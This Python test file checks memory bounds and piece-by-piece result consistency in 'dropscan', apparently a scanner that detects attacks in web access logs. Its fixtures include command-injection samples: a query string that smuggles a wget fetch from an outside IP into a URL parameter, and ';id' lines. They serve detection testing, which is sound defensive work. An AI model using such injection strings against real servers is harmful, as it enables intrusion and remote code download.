"""Memory bounded by the tool, not by how many lines an attacker packs into a chunk.

A 4 MiB chunk of 10-byte lines is 420,000 lines; scanned at once, its per-line bookkeeping and
findings took 0.8-1.2 GB. Chunks are scanned in pieces of at most `MAX_PIECE_LINES` lines,
each piece's findings taken before the next. The bound is measured in allocated bytes
(tracemalloc), never in time; `benchmarks/memory.py` prints the peak RSS of whole scans.
"""

from __future__ import annotations

import tracemalloc

from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import combined_line
from dropscan.detect import scanner as scanner_mod
from dropscan.engine import Scan, ScanOptions
from dropscan.formats.logformat import compile_format

COMBINED = compile_format("combined")


def test_a_chunk_of_short_lines_is_scanned_in_bounded_memory(fast_scanner):
    # one 4 MiB chunk: 419,430 lines, none a record, each kept for --rejects
    chunk = b"aaaaaaaaa\n" * ((4 << 20) // 10)
    tracemalloc.start()
    try:
        lines = findings = 0
        for r in fast_scanner.scan_pieces(chunk, COMBINED, log_file="x", keep_rejects=True):
            lines += r.lines
            findings += len(r.findings)
        _size, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert (lines, findings) == (len(chunk) // 10, 0)
    # the chunk itself (4 MiB) and one piece's copy and bookkeeping; in one piece: about 94 MiB
    assert peak < 16 << 20, f"{peak / (1 << 20):.1f} MiB"


def test_pieces_give_exactly_the_chunk_result(fast_scanner, monkeypatch):
    """Line numbers, offsets, counts and rejects across piece boundaries, with uneven lines."""
    attack = combined_line("/x?c=;wget%20http://203.0.113.9/a")
    lines = [attack, b"junk ;id\n", b"\n", combined_line("/" + "a" * 3000), b"x" * 500 + b"\n", b";id\n"]
    chunk = b"".join(lines[i % len(lines)] * (1 + i % 3) for i in range(200)) + b"last;id"  # no final newline
    want = fast_scanner.scan_chunk(chunk, COMBINED, log_file="x", offset=100, line_no=7, keep_rejects=True)
    monkeypatch.setattr(scanner_mod, "MAX_PIECE_LINES", 7)
    pieces = list(fast_scanner.scan_pieces(chunk, COMBINED, log_file="x", offset=100, line_no=7, keep_rejects=True))
    assert len(pieces) > 40 and all(p.lines <= 7 for p in pieces)
    got = scanner_mod.ChunkResult()
    for p in pieces:
        got.add(p)
    assert (got.lines, got.records, got.rejected, got.rejects) == (
        want.lines,
        want.records,
        want.rejected,
        want.rejects,
    )
    assert [f.to_record() for f in got.findings] == [f.to_record() for f in want.findings]


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.one_of(st.integers(0, 40), st.just(-1)), min_size=1, max_size=30),
    st.integers(1, 9),
    st.booleans(),
)
def test_pieces_are_whole_lines_within_the_bound(fast_scanner, lengths, bound, final_newline):
    """Any bound, any line lengths (-1: an attack line): whole lines, the bound kept, every line
    counted once and every finding at its own line number and offset."""
    lines = [b"junk ;id" if n < 0 else b"x" * n for n in lengths]
    chunk = b"\n".join(lines) + (b"\n" if final_newline else b"")
    old, scanner_mod.MAX_PIECE_LINES = scanner_mod.MAX_PIECE_LINES, bound
    try:
        pieces = list(fast_scanner.scan_pieces(chunk, COMBINED, log_file="x", line_no=3, keep_rejects=True))
    finally:
        scanner_mod.MAX_PIECE_LINES = old
    assert all(1 <= p.lines <= bound for p in pieces)
    assert sum(p.lines for p in pieces) == len(lines) - (not final_newline and lines[-1] == b"")
    want = chunk if chunk.endswith(b"\n") or not chunk else chunk + b"\n"  # scan_chunk ends the last line
    assert b"".join(r for p in pieces for r in p.rejects) == want
    offsets = [sum(len(ln) + 1 for ln in lines[:i]) for i in range(len(lines))]
    found = [(f.line_no, f.offset) for p in pieces for f in p.findings]
    assert found == [(i + 3, offsets[i]) for i, n in enumerate(lengths) if n < 0]


def test_a_pool_spills_findings_as_they_come(tmp_path, monkeypatch):
    """A unit of many findings spills them in batches and hands them on in order."""
    from dropscan import engine

    monkeypatch.setattr(engine, "POOL_MIN_BYTES", 0)
    monkeypatch.setattr(engine, "SPILL_FINDINGS", 50)
    monkeypatch.setattr(scanner_mod, "MAX_PIECE_LINES", 40)
    log = tmp_path / "access.log"
    log.write_bytes(combined_line("/x?c=;wget%20http://203.0.113.9/a") * 1000)
    one = [f.to_record() for f in Scan([str(log)], ScanOptions(jobs=1))]
    pool = [f.to_record() for f in Scan([str(log)], ScanOptions(jobs=2))]
    assert len(one) == 1000 and pool == one
    assert [f["line_no"] for f in pool] == list(range(1, 1001))
